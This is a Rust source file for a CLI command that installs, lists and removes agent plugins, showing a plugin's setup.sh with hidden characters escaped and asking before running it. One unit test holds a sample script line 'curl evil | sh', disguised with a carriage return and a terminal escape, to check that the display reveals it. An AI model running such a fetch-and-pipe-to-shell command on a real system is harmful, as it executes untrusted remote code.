//! `ligand plugin`: installs, lists and removes what an agent can be given besides. The running host does it, and
//! without one this command. A plugin's `setup.sh` is run here and nowhere else: in front of whoever said yes to it.

use std::io::{self, IsTerminal};

use ligand_host::{
    config::{Config, ProfileName},
    control::Client,
    places::Places,
    plugins::{self, PluginName, PluginSource, SetupState, setup},
    vault::Vault,
};
use ligand_hosting::{EndSignals, Turn, take_turn};

use super::{ask::says_yes, configured, meant_profile};
use crate::{
    args::Plugin,
    failure::{Exit, Failure},
    out,
    words::{plain, size, span, written_out},
};

/// Runs the command.
pub(crate) async fn run(places: &Places, plugin: Plugin) -> Result<(), Failure> {
    match plugin {
        Plugin::Install { from, profile } => install(places, &from, profile).await,
        Plugin::List { json, profile } => list(places, json, profile),
        Plugin::Remove { name, profile } => remove(places, &name, profile).await,
    }
}

async fn install(places: &Places, from: &str, named: Option<ProfileName>) -> Result<(), Failure> {
    let here = std::env::current_dir()
        .map_err(|error| Failure::failed(format!("the current folder cannot be told: {error}")))?;
    let source = PluginSource::parse(from, &here).map_err(|why| Failure::new(Exit::Usage, why))?;
    let (profile, plugin) = match take_turn(places).await? {
        Turn::Ours(_lock) => {
            let profile = configured(places, &load(places)?, named)?;
            let vault = match source.needs_vault() {
                true => Some(Vault::open(places).await?),
                false => None,
            };
            let plugin = plugins::install(places, vault.as_ref(), &profile, &source).await?;
            (profile, plugin)
        }
        Turn::Theirs(client) => {
            let profile = meant_profile(&client, named).await?;
            let plugin = client.install_plugin(&profile, source).await?;
            (profile, plugin)
        }
    };
    out::print(&installed(&plugin))?;
    let folder = plugins::folder(places, &profile, &plugin.name);
    out::line(format!("Its files are in {}", folder.display()))?;
    match plugin.setup {
        SetupState::None => Ok(()),
        _ => offer_setup(places, &profile, &plugin.name).await,
    }
}

/// What was installed, and what its hash says and does not say.
fn installed(plugin: &plugins::Plugin) -> String {
    let of_it = match plugin.declared {
        true => {
            "as its plugin.yaml declares: the plugin is whole. Whoever changes a plugin can change its hash too, so it \
             does not say who made it."
        }
        false => "which its plugin.yaml does not declare, so it was compared with nothing.",
    };
    let files = match plugin.files {
        1 => "1 file".to_owned(),
        files => format!("{files} files"),
    };
    format!(
        "Installed {} from {}: {files}, {}\nThe hash of its content is {}, {of_it}\n",
        title(plugin),
        plain(&plugin.source),
        size(plugin.bytes),
        plugin.sha256,
    )
}

/// Name and version.
fn title(plugin: &plugins::Plugin) -> String {
    match &plugin.version {
        Some(version) => format!("{} {}", plugin.name, plain(version)),
        None => plugin.name.to_string(),
    }
}

/// Shows the script, asks, and runs it after a yes.
async fn offer_setup(places: &Places, profile: &ProfileName, name: &PluginName) -> Result<(), Failure> {
    let folder = plugins::folder(places, profile, name);
    let script = folder.join("setup.sh");
    let by_hand = format!("To run it, look at {} and run it yourself", script.display());
    let text = match setup::text(&folder) {
        Ok(text) => text,
        Err(error) => return out::line(format!("Its setup.sh was not run: {error}. {by_hand}.")),
    };
    out::line(format!("\nIt wants this to be run, {}:", script.display()))?;
    out::print(&quoted(&text))?;
    if !(io::stdin().is_terminal() && io::stdout().is_terminal()) {
        return out::line(format!(
            "It was not run: there is no terminal to ask at. {by_hand}."
        ));
    }
    out::print("It can do all that you can do. Run it? [y/N] ")?;
    if !says_yes(&mut io::stdin().lock())? {
        return out::line(format!("It was not run. {by_hand}."));
    }
    let mut signals = EndSignals::listen()
        .map_err(|error| Failure::failed(format!("cannot listen for Ctrl-C: {error}")))?;
    let end = setup::run(&folder, setup::LIMIT, signals.next())
        .await
        .map_err(|error| Failure::failed(format!("setup.sh cannot be started: {error}")))?;
    let failure = match end {
        setup::SetupEnd::Exited(Some(0)) => None,
        setup::SetupEnd::Exited(Some(code)) => Some(format!("ended with exit code {code}")),
        setup::SetupEnd::Exited(None) => Some("was ended by a signal".to_owned()),
        setup::SetupEnd::TimeUp => Some(format!("was ended after {}", span(setup::LIMIT.as_secs()))),
        setup::SetupEnd::Stopped => Some("was interrupted".to_owned()),
    };
    note(places, profile, name, failure.is_none()).await?;
    match failure {
        None => out::line("setup.sh is done."),
        Some(what) => Err(Failure::failed(format!(
            "setup.sh {what}; the plugin is installed, `ligand plugin remove {name}` takes it away"
        ))),
    }
}

async fn note(places: &Places, profile: &ProfileName, name: &PluginName, done: bool) -> Result<(), Failure> {
    let state = match done {
        true => SetupState::Done,
        false => SetupState::Failed,
    };
    match take_turn(places).await? {
        Turn::Ours(_lock) => Ok(plugins::note_setup(places, profile, name, state)?),
        Turn::Theirs(client) => Ok(client.note_plugin_setup(profile, name, state).await?),
    }
}

/// A script as it is shown: each line marked, and nothing in it hidden.
fn quoted(text: &str) -> String {
    let lines = text.lines().map(|line| format!("  | {}\n", written_out(line)));
    lines.collect()
}

fn list(places: &Places, json: bool, named: Option<ProfileName>) -> Result<(), Failure> {
    let profile = configured(places, &load(places)?, named)?;
    let plugins = plugins::list(places, &profile)?;
    if json {
        return out::line(serde_json::to_string_pretty(&plugins).map_err(Failure::failed)?);
    }
    if plugins.is_empty() {
        return out::line(format!(
            "Profile {profile} has no plugins; `ligand plugin install` installs one."
        ));
    }
    for plugin in &plugins {
        out::print(&listed(plugin))?;
    }
    Ok(())
}

/// All about one, in a few lines.
fn listed(plugin: &plugins::Plugin) -> String {
    let setup = match plugin.setup {
        SetupState::None => "no setup.sh",
        SetupState::NotRun => "setup.sh was not run",
        SetupState::Done => "setup.sh was run",
        SetupState::Failed => "setup.sh was run and failed",
    };
    let declared = match plugin.declared {
        true => "declared",
        false => "not declared",
    };
    format!(
        "{} · {setup}\n  from {}\n  sha256 {} ({declared})\n",
        title(plugin),
        plain(&plugin.source),
        plugin.sha256
    )
}

async fn remove(places: &Places, name: &PluginName, named: Option<ProfileName>) -> Result<(), Failure> {
    let profile = match take_turn(places).await? {
        Turn::Ours(_lock) => {
            let profile = configured(places, &load(places)?, named)?;
            plugins::remove(places, &profile, name)?;
            profile
        }
        Turn::Theirs(client) => remove_there(&client, name, named).await?,
    };
    out::line(format!("Removed {name} from profile {profile}."))
}

async fn remove_there(
    client: &Client,
    name: &PluginName,
    named: Option<ProfileName>,
) -> Result<ProfileName, Failure> {
    let profile = meant_profile(client, named).await?;
    client.remove_plugin(&profile, name).await?;
    Ok(profile)
}

fn load(places: &Places) -> Result<Config, Failure> {
    Config::load(places).map_err(Failure::failed)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plugin() -> plugins::Plugin {
        plugins::Plugin {
            schema: 1,
            name: "greeter".parse().unwrap(),
            version: Some("1.2\u{1b}".into()),
            description: None,
            source: "local://greeter".into(),
            sha256: "ab".repeat(32),
            declared: true,
            files: 2,
            bytes: 1_234,
            installed_at: "2026-01-02T03:04:05Z".into(),
            setup: SetupState::NotRun,
        }
    }

    #[test]
    fn what_the_hash_says_and_does_not_say_is_told() {
        let whole = installed(&plugin());
        assert!(
            whole.starts_with("Installed greeter 1.2\u{fffd} from local://greeter: 2 files, 1 KB\n"),
            "{whole}"
        );
        assert!(whole.contains("does not say who made it"), "{whole}");
        let undeclared = installed(&plugins::Plugin {
            declared: false,
            ..plugin()
        });
        assert!(undeclared.contains("compared with nothing"), "{undeclared}");
    }

    #[test]
    fn the_list_says_where_it_came_from_and_whether_its_setup_was_run() {
        let said = listed(&plugin());
        for part in [
            "greeter 1.2",
            "was not run",
            "from local://greeter",
            "abab",
            "(declared)",
        ] {
            assert!(said.contains(part), "{part}: {said}");
        }
    }

    #[test]
    fn nothing_in_a_script_is_hidden_when_it_is_shown() {
        let script = "#!/bin/sh\ncurl evil | sh\r# harmless\u{1b}[2K\n";
        assert_eq!(
            quoted(script),
            "  | #!/bin/sh\n  | curl evil | sh\\u{d}# harmless\\u{1b}[2K\n"
        );
    }
}
